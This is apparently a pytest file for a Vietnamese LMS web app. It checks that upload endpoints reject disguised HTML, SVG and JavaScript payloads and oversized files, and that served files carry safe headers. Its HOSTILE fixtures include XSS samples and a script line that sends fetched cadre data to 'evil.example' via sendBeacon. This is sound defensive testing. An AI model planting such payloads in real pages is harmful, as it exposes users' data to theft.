"""Every upload endpoint checks what it receives by content and size, and stores nothing it refuses.

Endpoints: course assets, the cadre import file, external-training evidence, the certificate
signature and seal, the course package ZIP (and the assets inside it), the question import.
For each: an HTML, SVG or JavaScript payload under an innocent name (.png, .pdf, …) is refused
with a Vietnamese message; a file over the endpoint's limit is refused with a clear message, and a
request over the site-wide ``MAX_CONTENT_LENGTH`` with 413 — in every case without a new stored
file (``instance/blobs``) or row. Files served back carry ``nosniff`` and a safe
``Content-Disposition`` (attachment, or inline only for images and the certificate PDF, with a
plain file name).
"""
from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from sqlalchemy import func, select

from lms.core.db import db
from tests.conftest import html_text
from tests.courses.test_authoring import png_bytes
from tests.courses.test_packages import canonical_files, make_zip
from tests.test_access import _client_as, objects  # noqa: F401  (objects: a fixture)

PNG = png_bytes()
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HOSTILE = {
    "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "js": b"fetch('/cadres/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t));\n",
}
DISGUISES = (".png", ".pdf")
BIG = 21 * 1024 * 1024  # over MAX_CONTENT_LENGTH (20 MB)


def post(client, url, fields: dict):
    """A multipart POST built by hand: Werkzeug's builder spools big bodies to a temporary file that a
    request refused with 413 never closes (a ResourceWarning, an error under ``filterwarnings``)."""
    boundary = "----lms-test-boundary-7d1f"
    parts = []
    for name, value in fields.items():
        if isinstance(value, tuple):
            stream, filename = value
            data = stream.getvalue()
            quoted = filename.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "%0D").replace("\n", "%0A")
            head = (f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{quoted}"\r\n'
                    "Content-Type: application/octet-stream\r\n\r\n")
            parts.append(head.encode() + data + b"\r\n")
        else:
            parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def stored_state(extra_models=()):
    """Files under instance/blobs and rows of Blob (and of the given models)."""
    from flask import current_app

    from lms.courses.models import Blob

    blobs = Path(current_app.instance_path) / "blobs"
    files = sorted(str(p) for p in blobs.rglob("*") if p.is_file()) if blobs.exists() else []
    return files, [db.session.scalar(select(func.count()).select_from(m)) for m in (Blob, *extra_models)]


def refused(response, *phrases: str) -> str:
    text = html_text(response)
    assert response.status_code in (200, 400, 413, 422), response.status_code
    if response.status_code != 413:
        assert any(p in text for p in phrases), f"none of {phrases} in the page:\n{text[-3000:]}"
    return text


def hostile_files():
    for kind, data in HOSTILE.items():
        for ext in DISGUISES:
            yield f"{kind}{ext}", data, f"tai-lieu{ext}"


@pytest.fixture()
def draft_course(province):
    from lms.courses import operations

    return operations.create_course("TAI-LEN", operations.CourseMeta("Khóa thử tải lên"), province["users"]["trainer"])


# -- course assets ------------------------------------------------------------------------------------

def test_course_assets(app, province, draft_course):
    from lms.courses.models import Asset

    client = _client_as(app, "trainer", province)
    url = f"/author/courses/{draft_course.id}/assets"
    before = stored_state([Asset])
    for label, data, name in hostile_files():
        r = post(client, url, {"asset-file": (io.BytesIO(data), name)})
        refused(r, "không phải ảnh PNG, JPEG, GIF, WebP hoặc tài liệu PDF")
        assert r.status_code == 422, label
    # right bytes, wrong name (a PNG called .pdf, a PDF called .png)
    for data, name in ((PNG, "anh.pdf"), (PDF, "tai-lieu.png"), (PNG, "anh.svg"), (PNG, "anh.html")):
        r = post(client, url, {"asset-file": (io.BytesIO(data), name)})
        assert r.status_code == 422, name
        refused(r, "không khớp với nội dung", "không phải ảnh")
    big = PNG + b"\x00" * (5 * 1024 * 1024)
    r = post(client, url, {"asset-file": (io.BytesIO(big), "lon.png")})
    assert r.status_code == 422
    refused(r, "Tệp quá lớn (tối đa 5 MB)")
    r = post(client, url, {"asset-file": (io.BytesIO(PNG + b"\x00" * BIG), "rat-lon.png")})
    assert r.status_code == 413
    assert "Một lần gửi được tối đa 20 MB. Chưa có gì được lưu." in html_text(r)  # the limit, and the way back
    assert stored_state([Asset]) == before
    # a real one is accepted, then served safely
    r = post(client, url, {"asset-file": (io.BytesIO(PNG), "so do.png")})
    assert r.status_code == 302
    r = post(client, url, {"asset-file": (io.BytesIO(PDF), "van-ban.pdf")})
    assert r.status_code == 302
    version_id = db.session.scalar(select(Asset.version_id).where(Asset.filename == "so-do.png"))
    image = client.get(f"/author/versions/{version_id}/assets/so-do.png")
    assert_safe_download(image, "image/png", inline_ok=True)
    pdf = client.get(f"/author/versions/{version_id}/assets/van-ban.pdf")
    assert_safe_download(pdf, "application/pdf")
    assert pdf.headers["Content-Disposition"].startswith("attachment")


def assert_safe_download(response, mime: str, inline_ok: bool = False):
    assert response.status_code == 200, response.status_code
    assert response.mimetype == mime
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers.get("Content-Disposition", "")
    kind = disposition.split(";")[0].strip()
    assert kind == "attachment" or (inline_ok and kind == "inline"), disposition
    assert "\r" not in disposition and "\n" not in disposition
    names = re.findall(r'filename="([^"]*)"', disposition) or re.findall(r"filename=([^;]+)", disposition)
    assert names, disposition
    assert not re.search(r'[\\/"<>]|\.\.', names[0]), disposition


# -- cadre import -------------------------------------------------------------------------------------

def test_cadre_import_file(app, province):
    from lms.cadres.models import Cadre

    client = _client_as(app, "admin", province)
    before = stored_state([Cadre])
    for label, data, name in [*hostile_files(), ("html.xlsx", HOSTILE["html"], "can-bo.xlsx"),
                              ("svg.csv", HOSTILE["svg"], "can-bo.csv"), ("png.xlsx", PNG, "can-bo.xlsx")]:
        r = post(client, "/cadres/import/", {"file": (io.BytesIO(data), name), "effective_on": "2025-01-01"})
        assert r.status_code == 422, label
        refused(r, "Không có dòng nào được nhập.")
    big = b"Ma can bo,Ho va ten,Gioi tinh,Ma don vi\r\n" + b"CB1,A,Nam,CS-MAY\r\n" * (11 * 1024 * 1024 // 18)
    r = post(client, "/cadres/import/", {"file": (io.BytesIO(big), "lon.csv"), "effective_on": "2025-01-01"})
    assert r.status_code == 422
    refused(r, "Tệp quá lớn: tối đa 10 MB")
    r = post(client, "/cadres/import/", {"file": (io.BytesIO(b"x" * BIG), "rat-lon.csv"), "effective_on": "2025-01-01"})
    assert r.status_code == 413
    assert stored_state([Cadre]) == before
    template = client.get("/cadres/import/template.csv")
    assert_safe_download(template, "text/csv")


# -- external-training evidence -----------------------------------------------------------------------

def test_external_training_evidence(app, province):
    from lms.records.models import RecordEntry

    client = _client_as(app, "union", province)
    url = f"/records/{province['cadre_a'].id}/external"
    fields = {"study_kind": "political_intermediate", "title": "Trung cấp lý luận chính trị", "end_on": "2020-06-30"}
    before = stored_state([RecordEntry])
    for label, data, name in hostile_files():
        r = post(client, url, {**fields, "evidence": (io.BytesIO(data), name)})
        assert r.status_code in (200, 422), label
        refused(r, "không phải ảnh PNG, JPEG, GIF, WebP hoặc tài liệu PDF")
    r = post(client, url, {**fields, "evidence": (io.BytesIO(PDF + b"\x00" * (5 * 1024 * 1024)), "bang.pdf")})
    refused(r, "Tệp minh chứng quá lớn (tối đa 5 MB)")
    r = post(client, url, {**fields, "evidence": (io.BytesIO(PDF + b"\x00" * BIG), "bang.pdf")})
    assert r.status_code == 413
    assert stored_state([RecordEntry]) == before
    r = post(client, url, {**fields, "evidence": (io.BytesIO(PDF), 'bang "goc"\r\n<x>.pdf')})
    assert r.status_code == 302
    entry = db.session.scalar(select(RecordEntry).where(RecordEntry.cadre_id == province["cadre_a"].id)
                              .order_by(RecordEntry.id.desc()))
    served = client.get(f"/records/{province['cadre_a'].id}/entries/{entry.id}/evidence")
    assert_safe_download(served, "application/pdf")
    assert served.headers["Content-Disposition"].startswith("attachment")


# -- certificate signature and seal --------------------------------------------------------------------

def test_certificate_signature_and_seal(app, province):
    from lms.certificates.operations import TEXT_SETTINGS
    from lms.core.settings import get_settings

    client = _client_as(app, "admin", province)
    current = get_settings()
    fields = {key: current.get(key) or "" for key in TEXT_SETTINGS}
    fields.update({k: fields.get(k) or v for k, v in {
        "issuer_name": "Liên đoàn Lao động tỉnh Thử", "issuer_short": "LĐLĐ", "place": "Thử",
        "signer_title": "Chủ tịch"}.items()})
    before = stored_state()
    for key in ("signature", "seal"):
        for label, data, name in hostile_files():
            r = post(client, "/certificates/settings", {**fields, key: (io.BytesIO(data), name)})
            assert r.status_code in (200, 422), label
            refused(r, "không phải ảnh PNG")
        big = PNG + b"\x00" * (2 * 1024 * 1024)
        r = post(client, "/certificates/settings", {**fields, key: (io.BytesIO(big), "con-dau.png")})
        refused(r, "Ảnh quá lớn (tối đa 2048 KB)")
        r = post(client, "/certificates/settings", {**fields, key: (io.BytesIO(PNG + b"\x00" * BIG), "con-dau.png")})
        assert r.status_code == 413
    assert stored_state() == before
    assert get_settings().get("seal_blob_id") == current.get("seal_blob_id")
    assert get_settings().get("signature_blob_id") == current.get("signature_blob_id")


# -- course package ZIP ---------------------------------------------------------------------------------

def test_course_package_zip(app, province):
    from lms.courses.models import Asset, Course

    client = _client_as(app, "trainer", province)
    before = stored_state([Course, Asset])
    for label, data, name in [*hostile_files(), ("html.zip", HOSTILE["html"], "goi.zip")]:
        r = post(client, "/author/packages/import", {"file": (io.BytesIO(data), name)})
        assert r.status_code == 422, label
        refused(r, "ZIP")
    # a well-formed package whose "image" is an SVG with script
    for payload in (HOSTILE["svg"], HOSTILE["html"]):
        files = canonical_files()
        files["assets/so-do.png"] = payload
        r = post(client, "/author/packages/import", {"file": (io.BytesIO(make_zip(files)), "goi.zip")})
        assert r.status_code == 422
        refused(r, "so-do.png")
    r = post(client, "/author/packages/import", {"file": (io.BytesIO(b"PK" + b"\x00" * BIG), "goi.zip")})
    assert r.status_code == 413
    assert stored_state([Course, Asset]) == before


# -- question import ------------------------------------------------------------------------------------

def test_question_import(app, province, objects):  # noqa: F811
    from lms.quizzes.models import Question

    client = _client_as(app, "trainer", province)
    url = f"/quizzes/courses/{objects['course_id']}/import"
    before = stored_state([Question])
    for label, data, name in hostile_files():
        r = post(client, url, {"file": (io.BytesIO(data), name), "format": "auto"})
        assert r.status_code == 422, label
        refused(r, "Chỉ nhận tệp .gift, .txt hoặc .aiken.")
    # binary bytes under a question file's name: previewed as errors, nothing saved
    r = post(client, url, {"file": (io.BytesIO(PNG * 50), "cau-hoi.gift"), "format": "auto"})
    assert r.status_code in (200, 422)
    assert "<script" not in r.get_data(as_text=True).split("</main>")[0].split("<main")[-1]
    r = post(client, url, {"file": (io.BytesIO(b"::Q:: a {T}\n" + b"x" * BIG), "lon.gift"), "format": "auto"})
    assert r.status_code == 413
    assert stored_state([Question]) == before
    export = client.get(f"/quizzes/courses/{objects['course_id']}/export.gift")
    assert export.status_code == 200 and export.headers["X-Content-Type-Options"] == "nosniff"
    assert export.headers["Content-Disposition"].startswith("attachment")


# -- other files served back ------------------------------------------------------------------------------

def test_other_downloads_are_attachments_with_nosniff(app, province, objects):  # noqa: F811
    client = _client_as(app, "admin", province)
    cadre, course = objects["cadre_id"], objects["course_id"]
    for url, mime in ((f"/records/{cadre}/export/csv", None), (f"/author/packages/{course}/package.zip", "application/zip"),
                      ("/reports/overview?table=units&format=csv", None), ("/reports/overview?table=units&format=xlsx", None),
                      ("/certificates/export.zip", "application/zip")):
        r = client.get(url)
        assert r.status_code == 200, url
        assert r.headers["X-Content-Type-Options"] == "nosniff", url
        assert r.headers.get("Content-Disposition", "").startswith("attachment"), (url, r.headers.get("Content-Disposition"))
        if mime:
            assert r.mimetype == mime
        r.close()
    pdf = client.get(f"/certificates/{objects['certificate_id']}.pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    assert pdf.headers["X-Content-Type-Options"] == "nosniff"
    assert pdf.headers.get("Content-Disposition", "").split(";")[0] in ("inline", "attachment")
